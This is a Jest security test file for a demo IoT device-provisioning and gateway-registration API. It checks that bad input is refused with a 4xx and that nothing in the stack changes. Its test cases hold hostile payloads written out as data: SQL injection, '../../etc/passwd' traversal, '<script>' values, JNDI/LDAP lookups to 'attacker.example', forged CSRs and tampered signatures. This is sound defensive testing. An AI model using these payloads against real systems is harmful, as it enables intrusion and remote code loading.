/**
 * Bad input against the device registration APIs of the demo/api app on the stack runner
 * (nothing of ours mocked): `POST /provision/device` of CsrApiDemo (SigV4 as the factory line's
 * role) and `POST /register` of GatewayDemo (a TOKEN authorizer over the token hashes in the
 * stack's secret). Every refusal is a 4xx naming the field (or API Gateway's own 401/403 for a
 * caller it does not let in), never a 5xx or a stack trace, and nothing changes: no thing,
 * certificate or policy attachment, no ledger marker, no archived event. The tables are
 * doc/security-review.md's (UPDATE_SECURITY_REVIEW=1 rewrites them from here).
 */
import { createHash, randomBytes } from 'node:crypto';
import { rmSync } from 'node:fs';
import { CreateThingGroupCommand, CreateThingTypeCommand } from '@aws-sdk/client-iot';
import { PutSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { Attempt, checkReviewTable, cloudState, DemoCloud, describeHttpCases, HttpCase, Signing, startDemoCloud } from './support/bad-input';
import { BadPki, forged } from './support/bad-pki';
import { synthesizeApiDemo } from '../demo/support/api-demo-assembly';

jest.setTimeout(120_000);

const pki = new BadPki();
const provisionAttempts: Attempt[] = [];
const registerAttempts: Attempt[] = [];
let cdkOut: string;
let cloud: DemoCloud;
let before: string;
const pem: Record<string, string> = {};
const tokens = {
  line: randomBytes(24).toString('base64url'),
  hubsOnly: randomBytes(24).toString('base64url'),
};
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

beforeAll(async () => {
  cdkOut = synthesizeApiDemo();
  cloud = await startDemoCloud([cdkOut]);
  const { runner } = cloud;
  const secrets = new SecretsManagerClient({
    region: runner.region, credentials: runner.adminCredentials, endpoint: runner.endpoints.SECRETS_MANAGER,
  });
  const sha256 = (token: string) => createHash('sha256').update(token, 'utf8').digest('hex');
  await secrets.send(new PutSecretValueCommand({
    SecretId: cloud.outputs('GatewayDemo').TokensSecretArn,
    SecretString: JSON.stringify({
      tokens: [
        { id: 'assembly-line', sha256: sha256(tokens.line), oneTime: false, allowReissue: false, thingTypes: ['sensor'] },
        { id: 'hub-installer', sha256: sha256(tokens.hubsOnly), oneTime: true, allowReissue: false, thingTypes: ['hub'] },
      ],
    }),
  }));
  secrets.destroy();
  // A thing type and a thing group that exist, so refusals about them are about the request, not their absence.
  await cloud.iot.send(new CreateThingTypeCommand({ thingTypeName: 'factory-sensor' }));
  await cloud.iot.send(new CreateThingGroupCommand({ thingGroupName: 'line-1' }));

  pem.good = pki.csr(['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256'], '/CN=factory-sensor-1');
  pem.rsa1024 = pki.csr(['-newkey', 'rsa:1024'], '/CN=factory-sensor-1');
  pem.secp256k1 = pki.csr(['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:secp256k1'], '/CN=factory-sensor-1');
  pem.ed25519 = pki.ed25519Csr('/CN=factory-sensor-1');
  pem.certificate = pki.leaf('factory-certificate');
  before = await cloudState(cloud);
}, 240_000);

afterAll(async () => {
  await cloud?.close();
  pki.dispose();
  if (cdkOut) rmSync(cdkOut, { recursive: true, force: true });
});

const provision = (extra: Record<string, unknown> = {}) => ({ ThingName: 'factory-sensor-1', CSR: base64(pem.good), ...extra });

const PROVISION_CASES: HttpCase[] = [
  // Who may call: SigV4 with execute-api:Invoke on the method (the factory line's role).
  { tried: 'no signature', body: () => provision(), auth: 'unsigned', status: 403 },
  { tried: 'a signature with one character changed', body: () => provision(), auth: 'signature', status: 403 },
  { tried: 'the body changed after signing', body: () => provision(), auth: 'body-after-signing', status: 403 },
  { tried: 'signed with a wrong secret key', body: () => provision(), auth: 'wrong-secret', status: 403 },
  { tried: 'signed an hour ago (replayed)', body: () => provision(), auth: 'stale-date', status: 403 },
  { tried: 'signed by a role of the stack with no grant (the provisioner\'s own)', body: () => provision(), auth: 'no-grant', status: 403 },
  { tried: 'GET /provision/device', body: () => undefined, method: 'GET', status: 403 },
  { tried: 'POST /provision (no method there)', body: () => provision(), path: '/provision', status: 403 },
  // Malformed bodies.
  { tried: 'not JSON', body: () => '{"ThingName":', status: 400, field: 'body' },
  { tried: 'a JSON array', body: () => '[]', status: 400, field: 'body' },
  { tried: 'an empty body', body: () => undefined, status: 400, field: /^(ThingName|body)$/ },
  {
    tried: 'a body over 64 KiB (valid JSON padded with spaces)',
    body: () => `${JSON.stringify(provision()).slice(0, -1)}${' '.repeat(70 * 1024)}}`,
    status: 400,
    field: 'body',
    code: 'BodyTooLarge',
  },
  { tried: 'an unknown field', body: () => provision({ thingName: 'x' }), status: 400, field: 'thingName' },
  // Fields.
  { tried: 'no ThingName', body: () => ({ CSR: base64(pem.good) }), status: 400, field: 'ThingName' },
  { tried: 'ThingName a number', body: () => provision({ ThingName: 7 }), status: 400, field: 'ThingName' },
  { tried: 'ThingName `sensor 1` (a space)', body: () => provision({ ThingName: 'sensor 1' }), status: 400, field: 'ThingName' },
  { tried: 'ThingName of 129 characters', body: () => provision({ ThingName: 'x'.repeat(129) }), status: 400, field: 'ThingName' },
  { tried: 'ThingName `x\'; DROP TABLE things; --`', body: () => provision({ ThingName: 'x\'; DROP TABLE things; --' }), status: 400, field: 'ThingName' },
  { tried: 'ThingName `../../etc/passwd`', body: () => provision({ ThingName: '../../etc/passwd' }), status: 400, field: 'ThingName' },
  { tried: 'ThingName `sensor-Ω`', body: () => provision({ ThingName: 'sensor-Ω' }), status: 400, field: 'ThingName' },
  { tried: 'ThingName with a NUL character', body: () => provision({ ThingName: 'sensor\u0000' }), status: 400, field: 'ThingName' },
  { tried: 'ThingTypeName that does not exist', body: () => provision({ ThingTypeName: 'no-such-type' }), status: 400, field: 'ThingTypeName' },
  {
    tried: 'ThingTypeName `${jndi:ldap://attacker.example/a}`',
    body: () => provision({ ThingTypeName: '${jndi:ldap://attacker.example/a}' }),
    status: 400,
    field: 'ThingTypeName',
  },
  {
    tried: 'AttributePayload with merge',
    body: () => provision({ AttributePayload: { attributes: { a: 'b' }, merge: true } }),
    status: 400,
    field: /AttributePayload/,
  },
  {
    tried: 'AttributePayload.attributes with `Ref` (a template intrinsic)',
    body: () => provision({ AttributePayload: { attributes: { Ref: 'AWS::AccountId' } } }),
    status: 400,
    field: /AttributePayload\.attributes/,
  },
  {
    tried: 'four attributes without a thing type',
    body: () => provision({ AttributePayload: { attributes: { a: '1', b: '2', c: '3', d: '4' } } }),
    status: 400,
    field: /AttributePayload\.attributes/,
  },
  {
    tried: 'an attribute value with a space and `<script>`',
    body: () => provision({ AttributePayload: { attributes: { note: '<script>x</script> y' } } }),
    status: 400,
    field: /AttributePayload\.attributes/,
  },
  { tried: 'an attribute value a number', body: () => provision({ AttributePayload: { attributes: { batch: 7 } } }), status: 400, field: /AttributePayload\.attributes/ },
  { tried: 'ThingGroups a string', body: () => provision({ ThingGroups: 'line-1' }), status: 400, field: 'ThingGroups' },
  { tried: 'ThingGroups with a group twice', body: () => provision({ ThingGroups: ['line-1', 'line-1'] }), status: 400, field: /^ThingGroups/ },
  { tried: 'ThingGroups with 11 groups', body: () => provision({ ThingGroups: Array.from({ length: 11 }, (_, i) => `g${i}`) }), status: 400, field: /^ThingGroups/ },
  { tried: 'ThingGroups naming a group that does not exist', body: () => provision({ ThingGroups: ['no-such-group'] }), status: 400, field: /^ThingGroups/ },
  { tried: 'rotate "yes"', body: () => provision({ rotate: 'yes' }), status: 400, field: 'rotate' },
  // The CSR.
  { tried: 'no CSR', body: () => ({ ThingName: 'factory-sensor-1' }), status: 400, field: 'CSR' },
  { tried: 'CSR a number', body: () => provision({ CSR: 7 }), status: 400, field: 'CSR' },
  { tried: 'CSR not base64 (`%%% not base64 %%%`)', body: () => provision({ CSR: '%%% not base64 %%%' }), status: 400, field: 'CSR' },
  { tried: 'CSR base64 of text', body: () => provision({ CSR: base64('hello, no CSR here') }), status: 400, field: 'CSR' },
  { tried: 'CSR of 20 KB', body: () => provision({ CSR: 'A'.repeat(20_000) }), status: 400, field: 'CSR' },
  { tried: 'CSR a certificate', body: () => provision({ CSR: base64(pem.certificate) }), status: 400, field: 'CSR' },
  { tried: 'CSR cut short', body: () => provision({ CSR: base64(`${pem.good.slice(0, 150)}\n-----END CERTIFICATE REQUEST-----\n`) }), status: 400, field: 'CSR' },
  { tried: 'a CSR with an RSA-1024 key', body: () => provision({ CSR: base64(pem.rsa1024) }), status: 400, field: 'CSR' },
  { tried: 'a CSR with an Ed25519 key', body: () => provision({ CSR: base64(pem.ed25519) }), status: 400, field: 'CSR' },
  { tried: 'a CSR with a secp256k1 key', body: () => provision({ CSR: base64(pem.secp256k1) }), status: 400, field: 'CSR' },
  { tried: 'a CSR whose signature is forged (no proof of possession)', body: () => provision({ CSR: base64(forged(pem.good)) }), status: 400, field: 'CSR' },
  { tried: 'a CSR as PEM with two requests', body: () => provision({ CSR: pem.good + pem.good }), status: 400, field: 'CSR' },
];

const register = (extra: Record<string, unknown> = {}) => ({ thingName: 'gw-sensor-1', version: '1.0.0', ...extra });
const bearer = (token: string) => () => ({ authorization: `Token ${token}` });

const REGISTER_CASES: HttpCase[] = [
  // Who may call: `Authorization: Token <token>` whose SHA-256 is in the secret.
  { tried: 'no Authorization header', body: () => register(), auth: 'none', status: 401 },
  { tried: 'an unknown token', body: () => register(), headers: bearer(randomBytes(24).toString('base64url')), auth: 'none', status: 401 },
  {
    tried: 'the right token with the wrong identifier (`Bearer`)',
    body: () => register(),
    headers: () => ({ authorization: `Bearer ${tokens.line}` }),
    auth: 'none',
    status: 401,
  },
  {
    tried: 'the right token with the identifier in lower case (`token`)',
    body: () => register(),
    headers: () => ({ authorization: `token ${tokens.line}` }),
    auth: 'none',
    status: 401,
  },
  {
    tried: 'the token with a character changed',
    body: () => register(),
    headers: bearer(`${tokens.line.slice(0, -1)}${tokens.line.endsWith('A') ? 'B' : 'A'}`),
    auth: 'none',
    status: 401,
  },
  {
    tried: 'the token\'s SHA-256 instead of the token',
    body: () => register(),
    headers: bearer(createHash('sha256').update(tokens.line).digest('hex')),
    auth: 'none',
    status: 401,
  },
  { tried: 'a token of 2000 characters', body: () => register(), headers: bearer('t'.repeat(2000)), auth: 'none', status: 401 },
  { tried: 'a token with a unicode character', body: () => register(), headers: () => ({ authorization: 'Token tök' }), auth: 'none', status: 401 },
  { tried: 'two tokens (`Token a b`)', body: () => register(), headers: () => ({ authorization: `Token ${tokens.line} ${tokens.line}` }), auth: 'none', status: 401 },
  { tried: 'a SigV4 signature instead of a token', body: () => register(), auth: 'sigv4', status: 401 },
  {
    tried: 'a token that may register hubs only, for a sensor',
    body: () => register({ thingType: 'sensor' }),
    headers: bearer(tokens.hubsOnly),
    auth: 'none',
    status: 403,
    field: 'thingType',
  },
  { tried: 'GET /register', body: () => undefined, method: 'GET', status: 403 },
  { tried: 'POST / (no method there)', body: () => register(), path: '/', status: 403 },
  // Malformed bodies.
  { tried: 'not JSON', body: () => '{"thingName":', status: 400, field: 'body' },
  { tried: 'a JSON array', body: () => '[]', status: 400, field: 'body' },
  {
    tried: 'a body over 16 KiB (valid JSON padded with spaces)',
    body: () => `${JSON.stringify(register()).slice(0, -1)}${' '.repeat(20 * 1024)}}`,
    status: 400,
    field: 'body',
    code: 'BodyTooLarge',
  },
  { tried: 'an unknown field', body: () => register({ owner: 'me' }), status: 400, field: 'owner' },
  // Fields.
  { tried: 'no thingName', body: () => ({ version: '1.0.0' }), status: 400, field: 'thingName' },
  { tried: 'no version', body: () => ({ thingName: 'gw-sensor-1' }), status: 400, field: 'version' },
  { tried: 'thingName a number', body: () => register({ thingName: 12 }), status: 400, field: 'thingName' },
  { tried: 'thingName `gw sensor` (a space)', body: () => register({ thingName: 'gw sensor' }), status: 400, field: 'thingName' },
  { tried: 'thingName `x\'; DROP TABLE things; --`', body: () => register({ thingName: 'x\'; DROP TABLE things; --' }), status: 400, field: 'thingName' },
  { tried: 'thingName `$aws/things/x/shadow`', body: () => register({ thingName: '$aws/things/x/shadow' }), status: 400, field: 'thingName' },
  { tried: 'thingName `gw-Ω`', body: () => register({ thingName: 'gw-Ω' }), status: 400, field: 'thingName' },
  { tried: 'version with a space', body: () => register({ version: '1.0 beta' }), status: 400, field: 'version' },
  { tried: 'version of 65 characters', body: () => register({ version: '1'.repeat(65) }), status: 400, field: 'version' },
  { tried: 'version `${jndi:ldap://attacker.example/a}`', body: () => register({ version: '${jndi:ldap://attacker.example/a}' }), status: 400, field: 'version' },
  { tried: 'thingType that the gateway does not have', body: () => register({ thingType: 'camera' }), status: 400, field: 'thingType' },
  { tried: 'thingType a number', body: () => register({ thingType: 1 }), status: 400, field: 'thingType' },
  { tried: 'attributes a string', body: () => register({ attributes: 'model=T-100' }), status: 400, field: 'attributes' },
  { tried: 'an attribute the type does not declare', body: () => register({ attributes: { colour: 'red' } }), status: 400, field: 'attributes.colour' },
  { tried: 'attributes.version', body: () => register({ attributes: { version: '2' } }), status: 400, field: 'attributes.version' },
  { tried: 'an attribute value a number', body: () => register({ attributes: { model: 100 } }), status: 400, field: /^attributes/ },
  { tried: 'an attribute value with `<script>`', body: () => register({ attributes: { model: '<script>x</script>' } }), status: 400, field: /^attributes/ },
  { tried: 'an attribute named `""` (empty)', body: () => register({ attributes: { '': 'x' } }), status: 400, field: /^attributes/ },
];

function provisionSigning(auth: string): Signing {
  const { runner } = cloud;
  const factoryLine = runner.iam.credentialsFor(cloud.outputs('CsrApiDemo').FactoryLineRoleArn);
  switch (auth) {
    case 'unsigned': return { unsigned: true };
    case 'allowed': return { as: factoryLine };
    case 'no-grant': {
      const handler = runner.resourcesOfType('AWS::IAM::Role').find((role) => role.stackName === 'CsrApiDemo' && role.logicalId.startsWith('CsrApiHandlerRole'))!;
      return { as: runner.iam.credentialsFor(String(handler.attributes.Arn)) };
    }
    default: return { as: factoryLine, tamper: auth as 'signature' };
  }
}

function registerSigning(auth: string): Signing {
  // 'allowed': the assembly-line token (headers are added per request); 'sigv4': signed as the admin, no token.
  if (auth === 'sigv4') return { as: cloud.runner.adminCredentials };
  return { unsigned: true };
}

describeHttpCases({
  endpoint: 'POST /provision/device',
  cases: PROVISION_CASES,
  stacks: ['CsrApiDemo'],
  url: (stackName, path) => cloud.runner.localUrl(cloud.outputs(stackName).ProvisionDeviceUrl).replace(/\/provision\/device$/, path ?? '/provision/device'),
  signing: provisionSigning,
  region: () => cloud.runner.region,
  attempts: provisionAttempts,
});

describeHttpCases({
  endpoint: 'POST /register',
  // Unless a case says otherwise, the request carries the assembly line's token.
  cases: REGISTER_CASES.map((testCase) => (testCase.headers || testCase.auth ? testCase : { ...testCase, headers: bearer(tokens.line) })),
  stacks: ['GatewayDemo'],
  url: (stackName, path) => cloud.runner.localUrl(cloud.outputs(stackName).RegisterUrl).replace(/\/register$/, path ?? '/register'),
  signing: registerSigning,
  region: () => cloud.runner.region,
  attempts: registerAttempts,
});

test('nothing changed: no thing, certificate or attachment in the registry, no ledger marker, no archived event', async () => {
  await cloud.runner.settled();
  expect(await cloudState(cloud)).toEqual(before);
  expect(cloud.functionLog.join('\n')).not.toMatch(/\n\s+at /);
});

test('doc/security-review.md lists what was tried and what each got', () => {
  expect(provisionAttempts).toHaveLength(PROVISION_CASES.length);
  expect(registerAttempts).toHaveLength(REGISTER_CASES.length);
  checkReviewTable('provisionDevice', provisionAttempts);
  checkReviewTable('register', registerAttempts);
});
